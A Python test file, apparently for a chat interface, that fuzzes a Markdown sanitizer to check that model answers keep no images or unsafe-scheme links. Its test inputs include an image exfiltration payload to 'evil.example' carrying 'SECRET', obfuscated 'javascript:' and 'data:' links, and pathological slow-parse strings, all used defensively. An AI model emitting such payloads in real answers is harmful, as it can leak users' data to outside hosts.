"""What a model wrote, as a real CommonMark parser reads it after `words.write_answer`: no image, no odd link."""

import asyncio
import re
import time
from collections.abc import Iterator

import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from flowground.ui.markdown.answer_text import GrowingText, KeptAnswers, rewrite_answer
from flowground.ui.page import words
from tests.heartbeat import stays_responsive

_GITHUB = MarkdownIt("commonmark").enable(["table", "strikethrough"])
_AS_LETTERS = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
for _parser in (_GITHUB, _AS_LETTERS):
    _parser.validateLink = lambda url: True  # type: ignore[method-assign]  # what it leaves out by itself counts here
_PIECES = (
    *("`", "``", "```", "````", "~~~", "\n", "\n\n", "> ", ">", "- ", "-", "* ", "1. ", "2) ", "    ", "  ", " ", "\t"),
    *(
        "![x](y)",
        "![",
        "!",
        "[",
        "]",
        "](",
        "(",
        ")",
        "](https://a.b)",
        "](data:x)",
        "](<data:x>)",
        "](java&#x73;cript:x)",
    ),
    *(
        "<data:x>",
        "<https://a.b>",
        "[1]: data:x\n",
        "[1]: /u\n",
        "[x][1]",
        "[1]",
        "data&colon;x",
        "\\",
        "\\`",
        "a",
        "b c",
    ),
    *(
        "|",
        "|a|b|\n",
        "|-|-|\n",
        "-|-\n",
        "---\n",
        "===\n",
        "# ",
        "<",
        "<b>",
        '<a title="',
        '">',
        "<!--",
        "-->",
        "<div>",
    ),
    *('"t"', "'", "$", ":red[", ":smile:", "::", "e@a.b"),
)
_TEXTS = st.lists(st.sampled_from(_PIECES), max_size=24).map("".join)
_QUIET = [piece for piece in _PIECES if not re.search(r"[$<:]|\]\[|<|data", piece)]


def _tokens(parser: MarkdownIt, text: str) -> Iterator[Token]:
    for block in parser.parse(text):
        yield block
        yield from block.children or ()


def _doors(parser: MarkdownIt, text: str) -> tuple[list[str], list[str]]:
    """Addresses of images, and of links with another scheme than the three that may stay."""
    found = list(_tokens(parser, text))
    images = [str(token.attrs["src"]) for token in found if token.type == "image"]
    links = [str(token.attrs["href"]) for token in found if token.type == "link_open"]
    odd = [
        link for link in links if (scheme := re.match(r"\s*([a-z][a-z0-9+.-]*):", link, re.I)) and _is_odd(scheme[1])
    ]
    return images, odd


def _is_odd(scheme: str) -> bool:
    return scheme.lower() not in ("http", "https", "mailto")


@settings(max_examples=600, deadline=None)
@given(_TEXTS)
@example("```a`\n![x](https://evil.example/?q=SECRET)")
@example("!![x](y)")
@example("> ```\n![x](y)")
@example("- `\n\n      ![x](y)`")
@example("|a `|b|\n|-|-|\n|` ![x](y) `|c|")
@example("[`]: data:x\n` ![x](y) `")
@example("`a\n<!-- -->\n![x](y)`")
@example("[![a](data:x)](javascript:x)")
@example("![ [x](y) ](z)")
@example("[x][1]\n\n[1]: <data:x>")
@example("[1]: /u\n===\n[x]: data:x")
@example("[a](b\n'`')![x](y)`")
def test_no_parser_finds_an_image_or_an_odd_link(text: str) -> None:
    for parser in (_GITHUB, _AS_LETTERS):
        assert _doors(parser, words.write_answer(text)) == ([], [])


def test_the_parser_finds_them_before() -> None:
    assert _doors(_GITHUB, "![x](y) [x](data:x) <data:x>\n\n[r]\n\n[r]: tel:1") == (
        ["y"],
        ["data:x", "data:x", "tel:1"],
    )


@settings(max_examples=800, deadline=None)
@given(st.lists(st.sampled_from(_QUIET), max_size=24).map("".join))
@example("```\n![x](y)\n```\n\n| `![x](y)` | b |\n| :-: | --- |\n| c | d |")
@example("> - a\n>\n>       ![x](y)\n> 2. b")
@example("1. ~~~\n   ![x](y)\n\n   ![x](y)\n2) b")
@example("`a\nb ![x](y)`")
@example("| | a |\n|-|-|\n|b|$$c$$|")
@example("wow![1] (see [x](https://a.b))")
def test_what_has_nothing_of_the_kind_is_drawn_as_before(text: str) -> None:
    assume(_doors(_AS_LETTERS, text) == ([], []))
    assume("](`" not in text)  # an address that begins with a backtick: letters, to be safe
    assume("|-|-|\n|-|-|" not in text)  # a table headed by what is no table's second row: letters in part
    begin = "$\n\n***\n\n"  # so that the text is looked at in any case
    assert _AS_LETTERS.render(words.write_answer(begin + text)) == _AS_LETTERS.render(begin + text)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=24))
def test_a_growing_text_is_drawn_like_a_whole_one(pieces: list[str]) -> None:
    growing = GrowingText()
    for piece in pieces:
        growing.add(piece)
        shown = growing.rewrite()
    if "$" not in growing.whole:  # whether a formula of several lines has an end is known at its end
        assert not pieces or shown == rewrite_answer("".join(pieces))


def test_half_letters_are_joined_or_replaced() -> None:
    assert words.write_answer("hi \ud83d\ude00 \ud83d") == "hi 😀 \ufffd"
    growing = GrowingText()
    shown = []
    for piece in ("hi \ud83d", "\ude00 ", "\ude00"):
        growing.add(piece)
        shown.append(growing.rewrite())
    assert shown == ["hi ", "hi 😀 ", "hi 😀 \ufffd"]


_NASTY = {
    "runs of backticks": "".join("`" * count + "a" for count in range(1, 633)),
    "backticks apart": "`a" * 100_000,
    "open brackets": "![" * 100_000,
    "half links": "[a](" * 50_000,
    "marks": "!" * 200_000,
    "colons": ":" * 200_000,
    "one name": ":" + "a" * 200_000,
    "dollars": "$$a" * 66_000,
    "formulas without an end": "$$ a\n- $$ a\n" * 15_000,
    "quotes": ">" * 200_000,
    "items": "- " * 100_000 + "\n\n" + "\n" * 1000,
    "lines": "a\n" * 100_000,
    "tables": "|a|\n|-|\n" * 25_000,
    "definitions": "[a\n" * 66_000,
    "headings": "# a\n" * 50_000,
    "tags": "<a" * 100_000,
    "backslashes": "\\" * 200_000,
    "addresses": "http://a`" * 22_000,
    "bars": "|" * 200_000,
    "rules": "- - -a\n" * 28_000,
    "titles": '[a](b "' * 28_000,
    "entities": "[a](&#x" * 28_000,
}


def _cpu(text: str) -> float:
    """Best of two, of this thread."""
    taken = []
    for _ in range(2):
        began = time.thread_time()
        rewrite_answer(text)
        taken.append(time.thread_time() - began)
    return min(taken)


@pytest.mark.parametrize("name", _NASTY)
def test_a_nasty_text_takes_time_in_line_with_its_length(name: str) -> None:
    text = _NASTY[name] + "\n\n![x](y)"  # looked at in any case
    quarter, whole = _cpu(text[-len(text) // 4 :]), _cpu(text)
    assert whole < 8 * quarter + 0.03  # four times the length; a quadratic one takes sixteen times as long
    assert whole < 2


@pytest.mark.parametrize("name", _NASTY)
@pytest.mark.anyio
async def test_nobody_waits_while_a_nasty_text_is_read(name: str) -> None:
    text = _NASTY[name] + "\n\n![x](y)"
    await stays_responsive(lambda: asyncio.to_thread(rewrite_answer, text))


def test_a_growing_text_is_not_read_again_from_its_beginning() -> None:
    def cpu(count: int) -> float:
        growing = GrowingText()
        began = time.thread_time()
        for _ in range(count):
            growing.add("Some `code` for $5 and ![x](y).\n\n")
            growing.rewrite()
        return time.thread_time() - began

    few = min(cpu(250), cpu(250))
    assert cpu(1000) < 8 * few + 0.05


def test_texts_seen_before_are_kept_up_to_a_bound() -> None:
    kept = KeptAnswers(limit=10_000)
    assert [kept.rewrite(f"${number}" + "a" * 1000)[:4] for number in range(9)] == [rf"\${n}a" for n in range(9)]
    assert 8_000 < kept.size <= 10_000
    kept.rewrite("b" * 20_000)
    assert kept.size == 0
